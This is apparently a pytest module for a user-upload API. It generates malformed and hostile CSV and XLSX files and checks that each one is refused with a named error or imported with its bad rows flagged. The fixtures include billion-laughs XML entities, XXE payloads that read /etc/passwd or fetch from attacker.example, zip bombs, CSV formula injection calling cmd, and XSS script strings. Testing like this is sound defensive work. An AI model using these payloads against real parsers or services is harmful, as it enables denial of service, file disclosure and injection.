"""Malformed and hostile files, generated here, through the HTTP API and the real worker.

Each file is either refused with a 4xx and a named error code (the reader refuses before doing
heavy work; no timing is asserted, the code and message say which guard stopped it), or accepted,
and then its import's rows carry errors naming row and field. Nothing is kept from a refused file,
and the worker is still there at the end.

Databases: refusals run on SQLite only (the reader refuses before the database is touched);
accepted files are uploaded on PostgreSQL too (it is stricter about the text it stores) but
imported on SQLite only, so the module does not start a second worker for the imports.
"""

from __future__ import annotations

import codecs
import gzip
import io
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

import pytest
from sqlalchemy import func, select

from shared.errors import FileRejected
from shared.models import Upload, User
from tests.support.builders import basic_mapping, parse_csv
from tests.support.raw_xlsx import (
    MAIN,
    directory_entry,
    patch_directory,
    row,
    sheet,
    users_sheet,
    workbook,
    workbook_parts,
    zipped,
)

SQLITE_ONLY = pytest.mark.parametrize("database_url", ["sqlite"], indirect=True)
MB = 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
HEADER = row(1, ["Username", "Email"])
SHARED = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{MAIN}"><si><t>usr2</t></si></sst>'
_LEVELS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
LAUGHS = f'<!DOCTYPE lolz [<!ENTITY lol0 "lol">{_LEVELS}]>'  # a billion "lol"s


# ---------------------------------------------------------------- building files


def csv_rows(*rows: str, header: str = "Username,Email") -> bytes:
    return "".join(f"{line}\r\n" for line in (header, *rows)).encode()


def nine_rows(changes: dict[int, bytes]) -> bytes:
    """A header and rows 2 to 9 of three columns, some rows replaced."""
    lines = [b"Username,Email,Ext"] + [b"usr%d,usr%d@example.com,10%02d" % (i, i, i) for i in range(2, 10)]
    return b"\n".join(changes.get(number, line) for number, line in enumerate(lines, 1)) + b"\n"


def book(*users: tuple[object, ...]) -> bytes:
    return workbook(("Users", users_sheet(*users)))


def book_rows(rows_xml: str) -> bytes:
    return workbook(("Users", sheet(HEADER + rows_xml)))


def book_parts() -> dict[str, str | bytes]:
    return workbook_parts(("Users", users_sheet(("usr2", "usr2@example.com"))), shared_strings=SHARED)


def book_with(part: str, content: str | bytes, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    return zipped(book_parts() | {part: content}, method)


def with_prolog(part: str, declaration: str) -> bytes:
    """The workbook with a declaration (a DOCTYPE) put after the XML declaration of one part."""
    parts = book_parts()
    return zipped(parts | {part: str(parts[part]).replace("?>", "?>" + declaration, 1)})


def lying(**fields: int) -> bytes:
    """The workbook with its sheet's ZIP directory entry changed (file_size is added to)."""
    data = book(("usr2", "usr2@example.com"))
    size = directory_entry(data, SHEET).file_size
    return patch_directory(data, SHEET, **{k: size + v if k == "file_size" else v for k, v in fields.items()})


def overlapping() -> bytes:
    data = book(("usr2", "usr2@example.com"))
    return patch_directory(data, SHEET, offset=directory_entry(data, "[Content_Types].xml").header_offset)


def duplicate_names() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        for name, content in [*workbook_parts(("Users", sheet(""))).items(), (SHEET, sheet(""))]:
            archive.writestr(name, content)
    return out.getvalue()


def utf16_laughs() -> bytes:
    xml = sheet(HEADER, prolog=LAUGHS).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return book_with(SHEET, xml.encode("utf-16"))


def big_styles() -> bytes:
    noise = random.Random(5)  # ids that do not compress, so no zip bomb check fires first
    formats = "".join(f'<numFmt numFmtId="{noise.randrange(10**9)}" formatCode="x"/>' for _ in range(100_000))
    return book_with("xl/styles.xml", f'<styleSheet xmlns="{MAIN}"><numFmts>{formats}</numFmts></styleSheet>')


def nested_bomb() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        for i in range(2):
            archive.writestr(f"zeros{i}.bin", bytes(10 * MB))
    parts = workbook_parts(("Users", users_sheet(("usr2", "usr2@example.com"), ("usr3", "not-an-email"))))
    return zipped(parts | {"xl/embeddings/bomb.zip": inner.getvalue()})


def strict_ooxml() -> bytes:
    workbook_xml = str(book_parts()["xl/workbook.xml"])
    return book_with(
        "xl/workbook.xml", workbook_xml.replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main")
    )


# ---------------------------------------------------------------- refused files


@dataclass(frozen=True)
class Refused:
    """A refusal: its code, words of its message naming the problem, and the row it names."""

    code: str
    says: str
    row: int | None = None

    @property
    def status(self) -> int:
        return FileRejected("x", "x").STATUS_BY_CODE.get(self.code, 400)


def case(
    name: str, build: Callable[[], bytes], code: str, says: str, row: int | None = None, file: str = ""
) -> object:
    filename = file or ("users.xlsx" if name.startswith("xlsx") else "users.csv")
    return pytest.param(build, filename, Refused(code, says, row), id=name)


def foreign(name: str, build: Callable[[], bytes], says: str, file: str = "users.csv") -> object:
    return case(name, build, "unsupported_format", says, file=file)


UNREADABLE = "unreadable_file"
REFUSED = [
    # Quotes, huge cells, width and length of CSV files
    case(
        "csv-quote-open-in-row-4-of-9",
        lambda: nine_rows({4: b'usr4,"usr4@x.co,1004'}),
        UNREADABLE,
        "lines 4 to 9",
        4,
    ),
    case(
        "csv-quote-closed-three-rows-late",
        lambda: nine_rows({4: b'usr4,"usr4@x.co,1004', 7: b'usr7,"usr7"@x.co,1007'}),
        UNREADABLE,
        "lines 4 to 7",
        4,
    ),
    case(
        "csv-runaway-quote-past-128-kb",
        lambda: b'Username,Note\njdoe,ok\nasmith,"never closed\n' + b"x" * 200_000,
        UNREADABLE,
        "is not closed",
        3,
    ),
    case("csv-cell-of-140-kb", lambda: csv_rows("usr2," + "e" * 140_000), "cell_too_long", "(128 KB)", 2),
    case(
        "csv-header-of-631749-columns",
        lambda: b",".join(b"c%d" % i for i in range(631_749)) + b"\nx\n",
        "too_many_columns",
        "631,749 columns",
        1,
    ),
    case(
        "csv-row-of-252-columns",
        lambda: csv_rows("usr2,e" + ",x" * 250),
        "too_many_columns",
        "252 columns",
        2,
    ),
    case(
        "csv-501-user-rows",
        lambda: csv_rows(*(f"usr{i},usr{i}@example.com" for i in range(501))),
        "too_many_rows",
        "more than 500",
        502,
    ),
    case(
        "csv-5-mb-and-one-byte",
        lambda: b"Username\n" + b"x" * (5 * MB - 8),
        "file_too_large",
        "The file is 5.000001 MB; the limit is 5 MB",
    ),
    # Encodings
    case(
        "csv-utf8-with-a-windows-1252-line",
        lambda: "Username,Name\r\nmm,Müller\r\njj,José\r\n".encode() + "kk,José\r\n".encode("cp1252"),
        "mixed_encoding",
        "row 4 is Windows-1252 (ANSI): 'kk,José'",
        4,
    ),
    case(
        "csv-windows-1252-with-a-utf8-line",
        lambda: "Username,Name\r\nkk,José\r\nll,Señor\r\n".encode("cp1252") + "mm,Müller\r\n".encode(),
        "mixed_encoding",
        "row 4 is UTF-8",
        4,
    ),
    case(
        "csv-utf8-bom-then-windows-1252",
        lambda: codecs.BOM_UTF8 + b"Username,Name\r\n" + "kk,José\r\n".encode("cp1252"),
        "mixed_encoding",
        "'kk,José'",
        2,
    ),
    case(
        "csv-shift-jis",
        lambda: "ユーザー名,メール\r\nたなか,t@x.co\r\n".encode("shift_jis"),
        UNREADABLE,
        "not valid",
    ),
    case(
        "csv-byte-undefined-in-windows-1252",
        lambda: b"Username,Name\r\nkk,Jos\x81\r\n",
        UNREADABLE,
        "on line 2",
    ),
    case(
        "csv-utf16-of-odd-length",
        lambda: codecs.BOM_UTF16_LE + "Username,Email\r\nusr2,e\r\n".encode("utf-16-le") + b"\x00",
        UNREADABLE,
        "UTF-16",
    ),
    case("random-binary", lambda: random.Random(7).randbytes(4096), "unsupported_format", "binary data"),
    # Headers and emptiness
    case("empty-file", lambda: b"", "empty_file", "The file is empty"),
    case("only-a-bom", lambda: codecs.BOM_UTF8, "empty_file", "The file is empty"),
    case("only-blank-lines", lambda: b"\r\n" * 2_000_000, "empty_file", "The file is empty"),
    case(
        "csv-a-user-after-2-million-blank-lines",
        lambda: b"Username,Email\n" + b"\n" * 2_000_000 + b"usr2,usr2@x.co\n",
        "too_many_rows",
        "2,000,002 lines",
    ),
    case("header-only", lambda: b"Username,Email\r\n", "empty_file", "no user rows", 1),
    case("data-without-a-header", lambda: b"jdoe,jdoe@example.com\r\n", "no_header", "cell B1", 1),
    case(
        "duplicate-header-with-a-zero-width-space",
        lambda: "Email,Username\u200b,username\u200b\r\nx,y,z\r\n".encode(),
        "duplicate_header",
        "'usernameU+200B' appears twice",
        1,
    ),
    case(
        "header-cell-of-100000-digits",
        lambda: b"Username," + b"7" * 100_000 + b"\r\nx,y\r\n",
        "no_header",
        "7" * 59 + "…'",
        1,
    ),
    # Tall and wide sheets
    case(
        "xlsx-row-numbered-200-000-000",
        lambda: book_rows(row(2, ["usr2", "e"]) + row(200_000_000, ["z", "z@x.co"])),
        UNREADABLE,
        "a row numbered 200,000,000",
        200_000_000,
    ),
    case(
        "xlsx-row-numbered-1-000-000-000",
        lambda: book_rows(row(1_000_000_000, ["z", "z@x.co"])),
        UNREADABLE,
        "at most 1,048,576 rows",
        1_000_000_000,
    ),
    case(
        "xlsx-row-numbered-0",
        lambda: book_rows('<row r="0"><c><v>1</v></c></row>'),
        UNREADABLE,
        "numbered 0,",
    ),
    case(
        "xlsx-row-numbered-abc", lambda: book_rows('<row r="abc"><c><v>1</v></c></row>'), UNREADABLE, "'abc'"
    ),
    case(
        "xlsx-same-row-twice",
        lambda: book_rows(row(2, ["usr2", "e"]) + row(2, ["usr3", "e"])),
        UNREADABLE,
        "appears twice",
        2,
    ),
    case(
        "xlsx-header-of-300-columns",
        lambda: workbook(("Users", sheet(row(1, [f"H{i}" for i in range(300)])))),
        "too_many_columns",
        "201 columns",
        1,
    ),
    case(
        "xlsx-value-in-column-xfd",
        lambda: book_rows('<row r="2"><c r="XFD2"><v>1</v></c></row>'),
        "too_many_columns",
        "XFD2",
        2,
    ),
    case(
        "xlsx-cell-past-column-xfd",
        lambda: book_rows('<row r="2"><c r="XFE2"><v>1</v></c></row>'),
        UNREADABLE,
        "past Excel's last column",
        2,
    ),
    case(
        "xlsx-501-user-rows",
        lambda: book(*((f"usr{i}", f"usr{i}@x.co") for i in range(501))),
        "too_many_rows",
        "more than 500",
        502,
    ),
    case("xlsx-cell-of-140-kb", lambda: book(("usr2", "e" * 140_000)), "cell_too_long", "Cell B2", 2),
    case(
        "xlsx-formatted-cells-past-the-tag-budget",
        lambda: book_with(
            SHEET, sheet("".join(f'<row r="{r}">{"<c/>" * 1000}</row>' for r in range(2, 700))), 0
        ),
        UNREADABLE,
        "XML tags",
    ),
    # Formula cells written by scripts, without the value a spreadsheet saves
    case(
        "xlsx-formula-without-a-saved-value",
        lambda: book_rows('<row r="2"><c r="A2"><f>"u"&amp;ROW()</f></c></row>'),
        "unsaved_formula",
        "Cell A2 holds a formula without a saved value: open and save the file in a spreadsheet",
        2,
    ),
    case(
        "xlsx-shared-formula-without-saved-values",
        lambda: book_rows(
            '<row r="2"><c r="B2" t="str"><f t="shared" ref="B2:B3" si="0">A2</f><v>x</v></c></row>'
            '<row r="3"><c r="B3"><f t="shared" si="0"/></c></row>'
        ),
        "unsaved_formula",
        "Cell B3",
        3,
    ),
    case(
        "xlsx-array-formula-without-a-saved-value",
        lambda: book_rows('<row r="2"><c r="B2"><f t="array" ref="B2">A2:A3</f></c></row>'),
        "unsaved_formula",
        "Cell B2",
        2,
    ),
    # Sheets
    case(
        "xlsx-first-sheet-empty",
        lambda: workbook(("Notes", sheet("")), ("Users", users_sheet(("usr2", "usr2@x.co")))),
        "empty_file",
        "'Notes', 'Users': choose the one that holds the users (send its name as the upload's sheet field)",
    ),
    case("xlsx-without-a-worksheet", lambda: workbook(), UNREADABLE, "no worksheet"),
    # XML entity tricks and external entities
    case(
        "xlsx-billion-laughs-in-the-sheet",
        lambda: with_prolog(SHEET, LAUGHS),
        UNREADABLE,
        "declares XML entities",
    ),
    case(
        "xlsx-billion-laughs-in-shared-strings",
        lambda: with_prolog("xl/sharedStrings.xml", LAUGHS),
        UNREADABLE,
        "declares XML entities",
    ),
    case(
        "xlsx-billion-laughs-in-the-workbook",
        lambda: with_prolog("xl/workbook.xml", LAUGHS),
        UNREADABLE,
        "declares XML entities",
    ),
    case(
        "xlsx-billion-laughs-in-content-types",
        lambda: with_prolog("[Content_Types].xml", LAUGHS),
        UNREADABLE,
        "declares XML entities",
    ),
    case(
        "xlsx-billion-laughs-in-relationships",
        lambda: with_prolog("_rels/.rels", LAUGHS),
        UNREADABLE,
        "declares XML entities",
    ),
    case(
        "xlsx-quadratic-blowup",
        lambda: with_prolog(SHEET, f'<!DOCTYPE w [<!ENTITY a "{"x" * 50_000}">]>'),
        UNREADABLE,
        "declares XML entities",
    ),
    case("xlsx-billion-laughs-in-utf16", utf16_laughs, UNREADABLE, "declares XML entities"),
    case(
        "xlsx-entities-after-a-100-kb-comment",
        lambda: with_prolog(SHEET, "<!--" + "x" * 100_000 + "-->" + LAUGHS),
        UNREADABLE,
        "declares XML entities",
    ),
    case(
        "xlsx-xxe-local-file",
        lambda: with_prolog(SHEET, '<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        UNREADABLE,
        "an XML external entity, XXE",
    ),
    case(
        "xlsx-xxe-external-dtd",
        lambda: with_prolog("xl/workbook.xml", '<!DOCTYPE w SYSTEM "http://attacker.example/x.dtd">'),
        UNREADABLE,
        "an XML external entity, XXE",
    ),
    case(
        "xlsx-xxe-parameter-entity",
        lambda: with_prolog(SHEET, '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>'),
        UNREADABLE,
        "an XML external entity, XXE",
    ),
    case(
        "xlsx-bare-doctype",
        lambda: with_prolog(SHEET, "<!DOCTYPE worksheet>"),
        UNREADABLE,
        "DOCTYPE declaration",
    ),
    # Zip bombs and ZIP directories that lie
    case(
        "xlsx-zip-bomb-in-one-part",
        lambda: book_with(SHEET, sheet(HEADER + " " * (10 * MB))),
        UNREADABLE,
        "far more than a user list (a zip bomb)",
    ),
    case(
        "xlsx-zip-bomb-of-seventy-1-mb-parts",
        lambda: zipped(book_parts() | {f"xl/media/pad{i}.bin": bytes(MB) for i in range(70)}),
        UNREADABLE,
        "unpacks to 70",
    ),
    case(
        "xlsx-zip-bomb-of-3000-parts",
        lambda: zipped(book_parts() | {f"customXml/item{i}.xml": "<a/>" for i in range(3000)}),
        UNREADABLE,
        "parts, where a workbook has a few dozen",
    ),
    case("xlsx-overlapping-zip-bomb", overlapping, UNREADABLE, "share the same compressed data"),
    case(
        "xlsx-part-larger-than-claimed", lambda: lying(file_size=-50), UNREADABLE, "unpacks to more than the"
    ),
    case("xlsx-part-smaller-than-claimed", lambda: lying(file_size=50), UNREADABLE, "size or checksum"),
    case("xlsx-part-with-a-wrong-checksum", lambda: lying(crc=1), UNREADABLE, "size or checksum"),
    case("xlsx-lying-compressed-size", lambda: lying(compress_size=9), UNREADABLE, "is damaged"),
    case(
        "xlsx-bzip2-packed",
        lambda: zipped(book_parts(), zipfile.ZIP_BZIP2),
        UNREADABLE,
        "a method spreadsheet programs never use (ZIP method 12)",
    ),
    case("xlsx-lzma-packed", lambda: zipped(book_parts(), zipfile.ZIP_LZMA), UNREADABLE, "(ZIP method 14)"),
    case("xlsx-encrypted-part", lambda: lying(flags=1), UNREADABLE, "is encrypted"),
    case("xlsx-two-parts-of-one-name", duplicate_names, UNREADABLE, "the same name"),
    case("xlsx-styles-of-4-mb", big_styles, UNREADABLE, "far more than a user list needs"),
    # Damaged workbooks
    case(
        "xlsx-cut-short", lambda: book(("usr2", "usr2@x.co"))[:700], UNREADABLE, "not a complete ZIP archive"
    ),
    case(
        "xlsx-shared-string-index-out-of-range",
        lambda: book_rows('<row r="2"><c r="A2" t="s"><v>99</v></c></row>'),
        UNREADABLE,
        "Row 2 of the sheet cannot be read",
        2,
    ),
    case(
        "xlsx-style-index-out-of-range",
        lambda: book_rows('<row r="2"><c r="A2" s="999"><v>1</v></c></row>'),
        UNREADABLE,
        "Row 2 of the sheet cannot be read",
        2,
    ),
    case("xlsx-broken-sheet-xml", lambda: book_with(SHEET, sheet(HEADER)[:-30]), UNREADABLE, "damaged"),
    case(
        "xlsx-sheet-part-missing",
        lambda: zipped({k: v for k, v in book_parts().items() if k != SHEET}),
        UNREADABLE,
        "parts are missing",
    ),
    case("xlsx-strict-open-xml", strict_ooxml, UNREADABLE, "Strict Open XML"),
    # Old and foreign formats
    foreign("xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000), "(.xls)", "users.xls"),
    foreign(
        "ods",
        lambda: zipped({"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}),
        "an OpenDocument spreadsheet (.ods)",
        "users.ods",
    ),
    foreign("docx", lambda: zipped({"word/document.xml": "<w/>"}), "a Word document", "users.docx"),
    foreign("pptx", lambda: zipped({"ppt/presentation.xml": "<p/>"}), "a PowerPoint presentation"),
    foreign("zip-of-a-csv", lambda: zipped({"users.csv": csv_rows("usr2,e")}), "a ZIP archive", "users.zip"),
    foreign("empty-zip", lambda: zipped({}), "a ZIP archive", "users.xlsx"),
    foreign("pdf", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "a PDF", "users.pdf"),
    foreign("png", lambda: b"\x89PNG\r\n\x1a\n" + bytes(300), "a PNG image"),
    foreign("jpeg", lambda: b"\xff\xd8\xff\xe0" + bytes(300), "a JPEG image"),
    foreign("gif", lambda: b"GIF89a" + bytes(300), "a GIF image"),
    foreign("html", lambda: b"<html><body><table><tr><td>Username</td></tr></table></body></html>", "HTML"),
    foreign("json", lambda: b'[{"username": "usr2", "email": "usr2@x.co"}]', "a JSON file"),
    foreign(
        "excel-2003-xml",
        lambda: b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook/>',
        "an Excel 2003 XML spreadsheet",
        "users.xml",
    ),
    foreign("gzipped-csv", lambda: gzip.compress(csv_rows("usr2,e")), "a gzip archive", "users.csv.gz"),
    foreign("7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(300), "a 7-Zip archive", "users.7z"),
    foreign("rar", lambda: b"Rar!\x1a\x07\x01\x00" + bytes(300), "a RAR archive", "users.rar"),
    foreign("rtf", lambda: b"{\\rtf1\\ansi Username\\par usr2}", "a Rich Text document"),
    foreign("sqlite", lambda: b"SQLite format 3\x00" + bytes(300), "an SQLite database", "users.db"),
    foreign("elf-program", lambda: b"\x7fELF\x02\x01\x01" + bytes(300), "a program"),
]


def count(session, model: type) -> int:
    session.expire_all()
    return session.scalar(select(func.count()).select_from(model))


@SQLITE_ONLY
@pytest.mark.parametrize(("build", "filename", "expect"), REFUSED)
def test_a_hostile_file_is_refused_by_name_and_nothing_is_kept(imports, session, build, filename, expect):
    users = count(session, User)
    answer = imports.upload(build(), filename)
    error = answer.get_json()["error"]
    assert (answer.status_code, error["code"]) == (expect.status, expect.code), error
    assert expect.says in error["message"] and len(error["message"]) < 500, error["message"]
    assert (error["details"] or {}).get("row") == expect.row
    assert (count(session, Upload), count(session, User)) == (0, users)


# ---------------------------------------------------------------- accepted files


@dataclass(frozen=True)
class Accepted:
    """An accepted file: its rows counted, and the field each bad row's error names first."""

    rows: int
    errors: dict[int, str]
    filename: str = "users.csv"
    form: dict[str, str] = field(default_factory=dict)
    mapping: dict = field(default_factory=dict)  # changes to the basic mapping


EXT = {"extension": {"column": "Ext"}}
ACCEPTED = {
    "xlsx-rows-numbered-1-3-2-4": (
        lambda: book_rows(
            row(3, ["usr3", "bad"]) + row(2, ["usr2", "usr2@x.co"]) + row(4, ["usr4", "usr4@x.co"])
        ),
        Accepted(3, {3: "Email"}, "users.xlsx"),
    ),
    "xlsx-last-row-of-excel": (
        lambda: book_rows(row(2, ["usr2", "usr2@x.co"]) + row(1_048_576, ["b d", "usr9@x.co"])),
        Accepted(2, {1_048_576: "Username"}, "users.xlsx"),
    ),
    "xlsx-users-on-the-second-sheet": (
        lambda: workbook(
            ("Notes", sheet("")), ("Users", users_sheet(("usr2", "usr2@x.co"), ("usr3", "bad")))
        ),
        Accepted(2, {3: "Email"}, "users.xlsx", form={"sheet": "Users"}),
    ),
    "xlsx-formulas-with-saved-values": (
        lambda: book_rows(
            '<row r="2"><c r="A2" t="str"><f>"usr"&amp;ROW()</f><v>usr2</v></c>'
            '<c r="B2" t="str"><f>A2&amp;"@"</f><v>usr2@</v></c></row>'
        ),
        Accepted(1, {2: "Email"}, "users.xlsx"),
    ),
    "xlsx-with-a-nested-zip-bomb-inside": (nested_bomb, Accepted(2, {3: "Email"}, "users.xlsx")),
    "xlsx-shared-string-of-100-kb": (
        lambda: workbook(
            (
                "Users",
                sheet(HEADER + '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="s"><v>1</v></c></row>'),
            ),
            shared_strings=SHARED.replace("</sst>", f"<si><t>{'e' * 100_000}</t></si></sst>"),
        ),
        Accepted(1, {2: "Email"}, "users.xlsx"),
    ),
    "csv-control-characters-in-cells": (
        lambda: csv_rows("jd\x01oe,j\x07d@x.co", "usr3,usr3@x.co"),
        Accepted(2, {2: "Username"}),
    ),
    "csv-formula-injection": (
        lambda: csv_rows("=cmd|' /C calc'!A0,x@x.co", "@SUM(1+1)*cmd,y@x.co"),
        Accepted(2, {2: "Username", 3: "Username"}),
    ),
    "csv-script-payloads": (
        lambda: csv_rows('<script>alert(1)</script>,"<img src=x onerror=alert(1)>@x.co"'),
        Accepted(1, {2: "Username"}),
    ),
    "csv-nul-and-escapes-in-the-file-name": (
        lambda: b"Username,Email\r\nus\x00r2,usr2@x.co\r\nusr3,bad\r\n",
        Accepted(2, {3: "Email"}, filename="us\x00ers\x1b[31m\u202e.csv"),
    ),
    "csv-quoted-line-breaks": (
        lambda: b'Username,Email,Note\r\nusr2,usr2@x.co,"two\r\nlines"\r\nusr3,"bad\r\n",x\r\n',
        Accepted(2, {3: "Email"}),
    ),
    "csv-windows-1252": (
        lambda: "Username,Email,Name\r\nusr2,usr2@x.co,José\r\nusr3,bad,Señor\r\n".encode("cp1252"),
        Accepted(2, {3: "Email"}),
    ),
    "csv-cells-beyond-the-header": (
        lambda: csv_rows("usr2,usr2@x.co,extra,more", "usr3,bad,,,,x"),
        Accepted(2, {3: "Email"}),
    ),
    "csv-a-million-empty-rows-below-the-users": (
        lambda: csv_rows("usr2,usr2@x.co", "usr3,bad") + b",\r\n" * 1_000_000,
        Accepted(2, {3: "Email"}),
    ),
    "csv-email-of-100-kb": (lambda: csv_rows("usr2," + "e" * 100_000), Accepted(1, {2: "Email"})),
    "csv-zero-width-space-in-a-username": (
        lambda: csv_rows("jdoe\u200b,jdoe@x.co"),
        Accepted(1, {2: "Username"}),
    ),
    "csv-5000-digits-in-extension-role-and-skill-group": (
        lambda: csv_rows(
            f"usr2,usr2@x.co,{'9' * 5000},Agent,English",
            f"usr3,usr3@x.co,1003,{'7' * 5000},{'8' * 5000}",
            header="Username,Email,Ext,Role,Skills",
        ),
        Accepted(
            2,
            {2: "Virtual Extension", 3: "Role"},
            mapping=EXT | {"role": {"column": "Role"}, "skill_groups": {"column": "Skills"}},
        ),
    ),
    "csv-extension-08002": (
        lambda: csv_rows("usr2,usr2@x.co,08002", header="Username,Email,Ext"),
        Accepted(1, {2: "Virtual Extension"}, mapping=EXT),
    ),
    "csv-full-width-extension": (
        lambda: csv_rows("usr2,usr2@x.co,９６３０", header="Username,Email,Ext"),
        Accepted(1, {2: "Virtual Extension"}, mapping=EXT),
    ),
}
ACCEPTED_FILES = [pytest.param(build, expect, id=name) for name, (build, expect) in ACCEPTED.items()]


def upload(client, auth, data: bytes, filename: str, form: dict[str, str] | None = None):
    return client.post(
        "/api/v1/uploads",
        headers=auth,
        data={"file": (io.BytesIO(data), filename), **(form or {})},
        content_type="multipart/form-data",
    )


def stored(client, auth, build: Callable[[], bytes], expect: Accepted) -> dict:
    """Upload the file: it is kept with every row counted, its name cleaned, its sheets listed."""
    answer = upload(client, auth, build(), expect.filename, expect.form)
    body = answer.get_json()
    assert answer.status_code == 201, body
    assert body["row_count"] == expect.rows and body["filename"].isprintable()
    assert (body["sheet"] in body["sheets"]) if body["format"] == "xlsx" else (body["sheets"] == [])
    again = client.get(f"/api/v1/uploads/{body['upload_id']}", headers=auth).get_json()
    assert {k: again[k] for k in ("sheet", "sheets", "preview")} == {
        k: body[k] for k in ("sheet", "sheets", "preview")
    }
    return body


@pytest.mark.parametrize("database_url", ["postgresql"], indirect=True)
@pytest.mark.parametrize(("build", "expect"), ACCEPTED_FILES)
def test_an_odd_file_is_kept_by_postgresql_too(client, auth, build, expect):
    stored(client, auth, build, expect)


@SQLITE_ONLY
@pytest.mark.parametrize(("build", "expect"), ACCEPTED_FILES)
def test_an_odd_file_is_read_whole_and_its_bad_rows_are_named(imports, client, auth, worker, build, expect):
    upload_id = stored(client, auth, build, expect)["upload_id"]
    mapping = basic_mapping(imports.reference("roles")["Agent"]) | expect.mapping
    status = imports.wait_done(imports.start(upload_id, mapping).get_json()["id"])
    assert status["status"] == "succeeded", status
    errors = {int(r["Row"]): r["Errors"] for r in parse_csv(imports.download(status["id"], "errors")[1])}
    assert set(errors) == set(expect.errors), errors
    for number, field_name in expect.errors.items():
        assert errors[number].startswith(field_name) and len(errors[number]) < 400, errors[number]


# ---------------------------------------------------------------- the request around the file


@SQLITE_ONLY
def test_a_file_sent_as_text_gets_the_missing_filename_message(client, auth):
    answer = client.post(
        "/api/v1/uploads",
        headers=auth,
        data={"file": "Username,Email\r\n"},
        content_type="multipart/form-data",
    )
    error = answer.get_json()["error"]
    assert (answer.status_code, error["code"]) == (400, "missing_filename")
    assert "without a file name" in error["message"] and "-F file=@users.csv" in error["message"]


@SQLITE_ONLY
@pytest.mark.parametrize("name", [b"users\r\n.csv", b"users\n.csv", b"users\r.csv"])
def test_a_file_name_holding_a_line_break_is_named_as_the_problem(client, auth, name):
    body = (
        b'--XX\r\nContent-Disposition: form-data; name="file"; filename="' + name + b'"\r\n'
        b"Content-Type: text/csv\r\n\r\nUsername,Email\r\nann,ann@example.com\r\n--XX--\r\n"
    )
    answer = client.post(
        "/api/v1/uploads", headers=auth, data=body, content_type="multipart/form-data; boundary=XX"
    )
    error = answer.get_json()["error"]
    assert (answer.status_code, error["code"]) == (400, "invalid_filename")
    assert "line break" in error["message"] and "without a file name" not in error["message"]


@SQLITE_ONLY
def test_1500_small_form_fields_are_refused_for_what_they_are(client, auth):
    fields = {f"field{i}": "x" * 60 for i in range(1500)}
    answer = upload(client, auth, csv_rows("usr2,usr2@x.co"), "users.csv", fields)
    error = answer.get_json()["error"]
    assert (answer.status_code, error["code"]) == (413, "too_many_form_parts")
    assert "more than 1,000 parts" in error["message"] and "MB" not in error["message"]


@SQLITE_ONLY
def test_an_upload_past_the_request_limit_says_its_size(client, auth):
    answer = upload(client, auth, b"Username\n" + b"x" * (6 * MB), "users.csv")
    error = answer.get_json()["error"]
    assert (answer.status_code, error["code"]) == (413, "file_too_large")
    assert error["message"].startswith("The upload is 6 MB; a file may be at most 5 MB.")


@SQLITE_ONLY
def test_after_all_that_the_worker_still_imports_a_normal_file(imports, session, worker):
    assert worker.proc.poll() is None
    role = imports.reference("roles")["Agent"]
    status = imports.run(csv_rows("after1,after1@x.co", "after2,after2@x.co"), basic_mapping(role))
    assert (status["status"], status["created"], status["errors"]) == ("succeeded", 2, 0)
    assert count(session, User) == 3
